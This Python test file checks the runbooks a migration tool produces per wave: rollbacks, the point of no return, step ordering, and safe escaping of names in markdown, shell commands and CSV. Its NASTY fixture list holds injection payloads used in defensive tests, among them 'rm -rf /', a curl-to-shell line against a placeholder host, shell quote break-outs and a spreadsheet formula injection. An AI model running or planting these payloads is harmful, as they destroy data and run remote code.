"""Runbooks: every step can be checked and taken back, and the point of no return is where it is said to be."""

from __future__ import annotations

import csv
import io
import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from report_facts import county_facts
from report_renamed import renamed
from runbook_facts import first_wave, wave_facts, with_servers

from inventory.model import Route
from migration.reports.facts import ReportFacts
from migration.runbooks.commands import addresses_of, build_stack
from migration.runbooks.markdown import markdown
from migration.runbooks.rows import COLUMNS, csv_text
from migration.runbooks.runbook import runbook
from migration.runbooks.step import PHASES, GroupRunbook, Runbook, Step

GOLDEN = Path(__file__).parent / "golden" / "runbook_of_a_wave.md"
ROUTES: tuple[Route, ...] = ("retire", "replace", "replatform", "rehost", "retain")
NASTY = (
    "<script>alert(1)</script>",
    "](javascript:alert(1)) ![x](https://x.example/p.png)",
    "# heading | cell | *bold* _it_ `code`",
    "```\nrm -rf /\n```",
    "$(id) `id` ; rm -rf / && curl www.x.example | sh",
    "--policy-pack=evil",
    "'; id; '",
    "=cmd|' /C calc'!A0",
    "{names} {0} %s",
    "@everyone",
    "1. first",
    "- item",
    "====",
    "abc\u202edef\x1b]0;t\x07",
)


def books() -> Iterator[Runbook]:
    """The runbooks of all waves of the county, and of the wave with a design."""
    for facts in (county_facts(), wave_facts()):
        assert facts.plan is not None
        yield from (runbook(facts, wave) for wave in facts.plan.waves)


def steps_of(book: Runbook) -> tuple[Step, ...]:
    return (*(step for group in book.groups for step in group.steps), *book.contracts)


def routed(*routes: Route) -> GroupRunbook:
    """The runbook of the one move of the wave, with its two applications on these routes."""
    facts = wave_facts()
    by_id = dict(zip(("app-02", "app-03"), (*routes, routes[-1])[:2], strict=True))
    decided = tuple(replace(one, route=by_id.get(one.application_id, one.route)) for one in facts.dispositions)
    (group,) = runbook(replace(facts, dispositions=decided), first_wave(facts)).groups
    return group


def test_P_15_each_step_has_a_day_people_a_check_and_a_rollback() -> None:
    for book in books():
        for step in steps_of(book):
            assert step.what and step.who and step.check and step.rollback, step
            assert step.ends is None or step.ends > step.starts
        assert [step.number for step in steps_of(book)] == list(range(1, len(steps_of(book)) + 1))


@pytest.mark.parametrize("count", [0, 1, 500])
def test_P_15_a_runbook_is_written_for_any_number_of_servers(count: int) -> None:
    facts = with_servers(count)
    book = runbook(facts, first_wave(facts))
    text = markdown(book)
    assert len(re.findall(r"MANY-\d{3} \|", text)) == count
    assert text.count("- Rollback: ") == text.count("- Check: ") == text.count("- Who: ") == len(steps_of(book)) > 20


def test_P_15_a_wave_without_moves_has_a_runbook_that_says_so() -> None:
    facts = wave_facts()
    text = markdown(runbook(facts, replace(first_wave(facts), group_ids=())))
    assert "Nothing moves in this wave." in text


@pytest.mark.parametrize("route", ROUTES)
def test_P_15_before_the_point_of_no_return_no_rollback_loses_anything(route: Route) -> None:
    group = routed(route)
    no_return = group.no_return if group.no_return is not None else len(group.steps) + 1
    for step in group.steps:
        says = step.rollback.replace("Nothing is lost", "").replace("nothing is lost", "")
        assert step.number >= no_return or "lost" not in says, step


def test_P_15_what_moves_has_its_point_of_no_return_where_users_write() -> None:
    for route in ("replace", "replatform", "rehost"):
        group = routed(route)
        at = next(step for step in group.steps if step.number == group.no_return)
        assert (at.phase, at.starts) == ("open", group.cut_over)
        assert "Payroll and Finance ledger" in group.lost


def test_what_is_retired_has_it_where_disks_are_wiped_and_what_stays_has_none() -> None:
    retired, stays = routed("retire"), routed("retain")
    assert [one.phase for one in retired.steps if one.number == retired.no_return] == ["wipe"]
    assert stays.no_return is None and stays.lost == ""


def test_a_move_of_a_retired_and_a_moved_application_cannot_go_back_after_opening() -> None:
    group = routed("retire", "rehost")
    at = next(step for step in group.steps if step.number == group.no_return)
    assert at.phase == "open" and "Finance ledger" in at.what and "Payroll" not in at.what


def test_steps_stand_in_the_order_of_days_and_none_but_a_decision_is_before_the_first_day_of_work() -> None:
    facts = county_facts()
    assert facts.plan is not None
    moves = {one.group_id: one for one in facts.plan.moves}
    for book in books():
        for group in book.groups:
            order = [(one.starts, PHASES.index(one.phase)) for one in group.steps]
            assert order == sorted(order)
            first = min(moves[group.group_id].prepare_from, moves[group.group_id].seeding_from)
            assert all(one.starts >= first or one.phase == "decide" for one in group.steps)


def test_work_in_offices_falls_on_working_days() -> None:
    for book in books():
        for group in book.groups:
            days = [one.starts for one in group.steps if one.phase in ("approve", "ready")]
            assert days and all(one.weekday() < 5 for one in days)


def test_data_goes_the_way_of_what_it_becomes() -> None:
    says = " ".join(step.what for step in steps_of(runbook(wave_facts(), first_wave(wave_facts()))))
    assert "Replicate the machines while they go on working: NCC-SRV-01." in says
    assert "Load a first copy of the databases into the new service, and keep their changes going over: LEDGER." in says
    assert "Put the program and its settings on the new service, with secrets in the key vault: NCC-SRV-31." in says


def test_what_is_not_designed_becomes_nothing_and_a_database_goes_with_its_machine() -> None:
    facts = wave_facts()
    assert facts.architecture is not None
    database = replace(facts.estate.databases[0], parent_id="srv-01")
    machine = [one for one in facts.architecture.workloads if one.kind == "windows-vm"]
    facts = replace(
        facts,
        estate=replace(facts.estate, databases=(database,)),
        architecture=replace(facts.architecture, workloads=tuple(machine)),
    )
    (group,) = runbook(facts, first_wave(facts)).groups
    assert [(one.name, one.becomes) for one in group.things] == [
        ("LEDGER", "goes with NCC-SRV-01"),
        ("NCC-SRV-01", "vmpayapp01 (windows-vm)"),
        ("NCC-SRV-31", "nothing that is built"),
    ]


def test_who_is_not_known_stands_in_the_step_and_at_the_top() -> None:
    text = markdown(runbook(wave_facts(), first_wave(wave_facts())))
    assert "owner of Finance ledger: not known" in text
    top = text[: text.index("## Moves")]
    assert "- owner of Finance ledger: nobody is known." in top
    assert "- security team: nobody is known." in top


def test_a_cut_over_in_a_freeze_and_a_plan_that_breaks_a_rule_are_told() -> None:
    facts = replace(wave_facts(), violations=county_facts().violations)
    freeze = replace(facts.folder.programme.freezes[0], starts=first_wave(facts).period_from)
    programme = replace(facts.folder.programme, freezes=(freeze,))
    facts = replace(facts, folder=replace(facts.folder, programme=programme))
    wrong = [gap.wrong for gap in runbook(facts, first_wave(facts)).gaps]
    assert "the cut-over on 24 Oct 2026 is in a freeze: Christmas" in wrong
    assert "the plan breaks 1 of its rules" in wrong


def test_the_order_of_the_facts_changes_nothing() -> None:
    facts = wave_facts()
    assert facts.plan is not None
    turned = replace(
        facts,
        dispositions=facts.dispositions[::-1],
        plan=replace(facts.plan, groups=facts.plan.groups[::-1], moves=facts.plan.moves[::-1]),
        estate=replace(facts.estate, servers=facts.estate.servers[::-1], interfaces=facts.estate.interfaces[::-1]),
    )
    assert markdown(runbook(turned, first_wave(turned))) == markdown(runbook(facts, first_wave(facts)))


@pytest.mark.parametrize("text", NASTY)
def test_names_of_strangers_stay_text(text: str) -> None:
    facts: ReportFacts = renamed(wave_facts(), text)
    book = runbook(facts, first_wave(facts))
    shown = markdown(book)
    outside = re.sub(r"^(`{3,})sh\n.*?^\1$", "", shown, flags=re.M | re.S)
    unescaped = re.sub(r"\\.", "", outside).replace("<!-- -->", "")
    assert not re.search(r"[<>`$@~&]|\]\(|https?:|www\.", unescaped)
    assert not re.search(r"^(- )?(\d{1,9}[.)]\s|[+=])|^- -", outside, flags=re.M)
    assert "\x1b" not in shown and "\u202e" not in shown
    headings = [line for line in shown.splitlines() if line.startswith("#")]
    assert len(headings) == len(steps_of(book)) + 5 + len(book.groups)
    cells = [len(re.findall(r"(?<!\\)\|", line)) for line in shown.splitlines() if line.startswith("|")]
    assert set(cells) <= {4, 6}


@pytest.mark.parametrize("text", NASTY)
def test_I_10_a_name_in_a_command_is_one_word_of_it(text: str) -> None:
    for line in (*build_stack(text), *addresses_of((text,))):
        assert "\n" not in line and "\x1b" not in line
        words = shlex.split(line)
        assert len(words) == (4 if words[0] == "getent" else 5)
    assert addresses_of((text,))[0].startswith("getent hosts -- ")


def test_the_table_has_a_row_for_each_step_and_no_formula() -> None:
    facts = renamed(wave_facts(), "=cmd|' /C calc'!A0")
    book = runbook(facts, first_wave(facts))
    header, *rows = csv.reader(io.StringIO(csv_text(book)))
    assert tuple(header) == COLUMNS and len(rows) == len(steps_of(book))
    assert not any(cell[:1] in "=@+" for row in rows for cell in row if cell)
    sides = [row[COLUMNS.index("point_of_no_return")] for row in rows if row[2]]
    assert sides == sorted(sides, key=("before", "here", "after").index) and sides.count("here") == 1


def test_the_runbook_of_a_wave_reads_as_it_should() -> None:
    facts = wave_facts()
    assert markdown(runbook(facts, first_wave(facts))) == GOLDEN.read_text(encoding="utf-8")
